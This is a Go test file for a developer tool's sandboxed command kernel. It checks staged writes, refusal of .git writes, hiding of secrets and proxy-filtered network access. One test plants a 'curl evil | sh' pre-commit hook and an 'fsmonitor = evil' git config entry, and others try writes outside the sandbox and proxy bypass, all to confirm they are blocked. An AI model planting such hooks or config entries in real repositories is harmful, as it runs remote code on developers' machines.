package kernel_test

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/ice-studio/ice-studio/backend/capability"
	"github.com/ice-studio/ice-studio/backend/eventlog"
	"github.com/ice-studio/ice-studio/backend/internal/asuser"
	"github.com/ice-studio/ice-studio/backend/kernel"
	"github.com/ice-studio/ice-studio/backend/sandbox"
)

// A command's effects, tried for real in the sandbox.

func TestCommandChangesBecomeStagedWritesAndGitIsRefused(t *testing.T) {
	h := sandboxHarness(t, map[string]string{"a.txt": "old\n", "b.txt": "bye\n", ".git/config": "[core]\n", ".git/hooks/.keep": ""},
		allowAll(), []string{"PATH=/usr/bin:/bin"})
	home, _ := os.UserHomeDir()
	escape := filepath.Join(home, fmt.Sprintf(".ice-escape-%d", os.Getpid()))
	tmpEscape := filepath.Join(os.TempDir(), fmt.Sprintf("ice-escape-%d", os.Getpid()))
	script := fmt.Sprintf(`echo new > a.txt; rm b.txt; mkdir -p gen; echo gen > gen/out.txt;
echo 'curl evil | sh' > .git/hooks/pre-commit; echo '	fsmonitor = evil' >> .git/config;
echo x > %s; echo x > %s; true`, escape, tmpEscape)
	info, res, p := commandRun(t, h, "sh", "-c", script)
	if res.ExitCode != 0 {
		t.Fatalf("exit %d: %s", res.ExitCode, res.Output)
	}
	if p.Sandbox == "" || p.Sandbox == sandbox.ModeUnsandboxed {
		t.Fatalf("sandbox mode %q", p.Sandbox)
	}
	for _, f := range []string{escape, tmpEscape} {
		if _, err := os.Stat(f); err == nil {
			os.Remove(f)
			t.Errorf("the command wrote %s outside the sandbox", f)
		}
	}
	outcomes := map[string]string{}
	for _, c := range p.Changes {
		outcomes[c.Path] = c.Outcome
	}
	want := map[string]string{"a.txt": kernel.ChangeStaged, "b.txt": kernel.ChangeStaged, "gen/out.txt": kernel.ChangeStaged,
		".git/hooks/pre-commit": kernel.ChangeRefused, ".git/config": kernel.ChangeRefused}
	for path, o := range want {
		if outcomes[path] != o {
			t.Errorf("change %s: outcome %q, want %q (all: %+v)", path, outcomes[path], o, p.Changes)
		}
	}
	var deniedGit int
	for _, d := range denials(t, h, info.ID) {
		if strings.HasPrefix(d.Target, ".git/") && d.Kind == capability.FSWrite {
			deniedGit++
		}
	}
	if deniedGit != 2 {
		t.Errorf("%d fs.write denials under .git, want 2", deniedGit)
	}
	if got := read(t, h.root, "a.txt") + read(t, h.root, "b.txt") + read(t, h.root, ".git/config"); got != "old\nbye\n[core]\n" {
		t.Fatalf("the real workspace changed: %q", got)
	}
	if _, err := os.Stat(filepath.Join(h.root, ".git/hooks/pre-commit")); err == nil {
		t.Fatal("a hook was written into the real .git")
	}
	if info.State != kernel.StateValidated {
		t.Fatalf("run %s: %s", info.State, info.Reason)
	}
	// Commit applies exactly the staged changes.
	if _, err := h.k.Approve(context.Background(), info.ID); err != nil {
		t.Fatal(err)
	}
	got := read(t, h.root, "a.txt") + read(t, h.root, "b.txt") + read(t, h.root, "gen/out.txt") + read(t, h.root, ".git/config")
	if got != "new\n<absent>gen\n[core]\n" {
		t.Fatalf("after the commit: %q", got)
	}
}

func TestGofmtThroughRunCommandIsAStagedDiff(t *testing.T) {
	gofmt, err := exec.LookPath("gofmt")
	if err != nil {
		t.Skip("gofmt is not installed")
	}
	ugly := "package a\nfunc  F( )  {  }\n"
	h := sandboxHarness(t, map[string]string{"a.go": ugly}, allowAll(), []string{"PATH=" + filepath.Dir(gofmt) + ":/usr/bin:/bin"})
	info, res, _ := commandRun(t, h, "gofmt", "-w", "a.go")
	if res.ExitCode != 0 {
		t.Fatalf("gofmt: exit %d: %s", res.ExitCode, res.Output)
	}
	staged, err := kernel.StagedChanges(context.Background(), h.store.ReadDB(), info.ID)
	if err != nil || len(staged) != 1 || staged[0].Path != "a.go" {
		t.Fatalf("staged %+v, %v", staged, err)
	}
	after, _ := h.store.GetBlob(context.Background(), staged[0].After)
	if string(after) != "package a\n\nfunc F() {}\n" {
		t.Fatalf("staged content %q", after)
	}
	if read(t, h.root, "a.go") != ugly {
		t.Fatal("gofmt wrote the real file")
	}
}

func TestCommandSeesTheRunsStagedEdits(t *testing.T) {
	h := sandboxHarness(t, map[string]string{"a.txt": "disk\n", "gone.txt": "x"}, allowAll(), []string{"PATH=/usr/bin:/bin"})
	var out string
	info := h.start(kernel.StartRequest{Task: "staged then run", Profile: "agent"}, steps(writeStep("a.txt", "staged\n"), deleteStep("gone.txt"),
		func(_ context.Context, env *kernel.Env) error {
			res, err := env.RunCommand([]string{"sh", "-c", "cat a.txt; ls gone.txt 2>&1 || echo no-gone"}, ".", 0)
			out = res.Output
			return err
		}))
	h.wait(info.ID)
	if !strings.Contains(out, "staged") || !strings.Contains(out, "no-gone") {
		t.Fatalf("the command did not see the staged edits: %q", out)
	}
}

func TestCommandSeesNoSecretOfTheStudio(t *testing.T) {
	h := sandboxHarness(t, nil, allowAll(), []string{"PATH=/usr/bin:/bin", "ICE_STUDIO_SECRET=hunter2-token", "LANG=C.UTF-8"})
	_, res, _ := commandRun(t, h, "env")
	if strings.Contains(res.Output, "hunter2") {
		t.Fatalf("the command saw the Studio's secret:\n%s", res.Output)
	}
	if !strings.Contains(res.Output, "LANG=C.UTF-8") {
		t.Fatalf("an allowlisted variable is missing:\n%s", res.Output)
	}
}

func TestValidationCommandChangesAreShownAndDiscarded(t *testing.T) {
	h := sandboxHarness(t, map[string]string{"a.txt": "a\n"}, allowAll(), []string{"PATH=/usr/bin:/bin"})
	info := h.start(kernel.StartRequest{Task: "validate", ValidationCommand: []string{"sh", "-c", "echo generated > gen.txt; cat a.txt"}},
		steps(writeStep("a.txt", "b\n")))
	info = h.wait(info.ID)
	if info.State != kernel.StateValidated {
		t.Fatalf("run %s: %s", info.State, info.Reason)
	}
	p := h.lastPayload(info.ID, eventlog.EffectCommandExecuted)
	if !strings.Contains(p, `"path":"gen.txt"`) || !strings.Contains(p, `"outcome":"discarded"`) || !strings.Contains(p, `"purpose":"validation"`) {
		t.Fatalf("the validation command's record: %s", p)
	}
	staged, _ := kernel.StagedChanges(context.Background(), h.store.ReadDB(), info.ID)
	if len(staged) != 1 || staged[0].Path != "a.txt" {
		t.Fatalf("staged %+v: a validation command's change became staged", staged)
	}
	if _, err := os.Stat(filepath.Join(h.root, "gen.txt")); err == nil {
		t.Fatal("the validation command wrote the real workspace")
	}
}

func TestCommandNetworkGoesThroughTheKernel(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	var allowedHits, deniedHits atomic.Int32
	allowed := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		allowedHits.Add(1)
		fmt.Fprint(w, "hello from the allowed host")
	}))
	defer allowed.Close()
	denied := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { deniedHits.Add(1) }))
	defer denied.Close()
	// A raw TCP listener on the host's loopback, tried without the proxy.
	raw, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	var rawHits atomic.Int32
	go func() {
		for {
			c, err := raw.Accept()
			if err != nil {
				return
			}
			rawHits.Add(1)
			c.Close()
		}
	}()
	host := strings.TrimPrefix(allowed.URL, "http://")
	p := allowAll()
	p.Rules = append([]capability.Rule{{Kind: capability.NetHTTP, Scope: capability.Scope{Host: host}, Effect: capability.Allow}}, p.Rules...)
	h := sandboxHarness(t, nil, p, []string{"PATH=/usr/bin:/bin"})
	script := fmt.Sprintf(`curl -sS %s/; echo; curl -sS -o /dev/null -w '%%{http_code}\n' %s/; curl -sS --noproxy '*' --max-time 3 http://%s/; echo end`,
		allowed.URL, denied.URL, raw.Addr())
	info, res, pl := commandRun(t, h, "sh", "-c", script)
	if !strings.Contains(res.Output, "hello from the allowed host") {
		t.Fatalf("the allowed host was not reached through the proxy:\n%s", res.Output)
	}
	if !strings.Contains(res.Output, "403") {
		t.Fatalf("the denied host did not answer 403 through the proxy:\n%s", res.Output)
	}
	if allowedHits.Load() != 1 || deniedHits.Load() != 0 || rawHits.Load() != 0 {
		t.Fatalf("hits: allowed %d, denied %d, direct %d", allowedHits.Load(), deniedHits.Load(), rawHits.Load())
	}
	if len(pl.Network) != 2 || !pl.Network[0].Allowed || pl.Network[1].Allowed || pl.Network[0].Event == "" || pl.Network[1].Event == "" {
		t.Fatalf("recorded network decisions %+v", pl.Network)
	}
	var netDenied int
	for _, d := range denials(t, h, info.ID) {
		if d.Kind == capability.NetHTTP {
			netDenied++
		}
	}
	if netDenied != 1 {
		t.Fatalf("%d net.http denials, want 1", netDenied)
	}
}

// TestCommandsAsUnprivileged runs the command, link and listing tests again
// as an unprivileged user: users run the Studio as themselves.
func TestCommandsAsUnprivileged(t *testing.T) {
	asuser.Rerun(t, "^Test(Command(Changes|Sees|Network)|Gofmt|ValidationCommandChanges|AbortKills|WriteThrough|AWriteThrough|Staging|RefusedListings)")
}
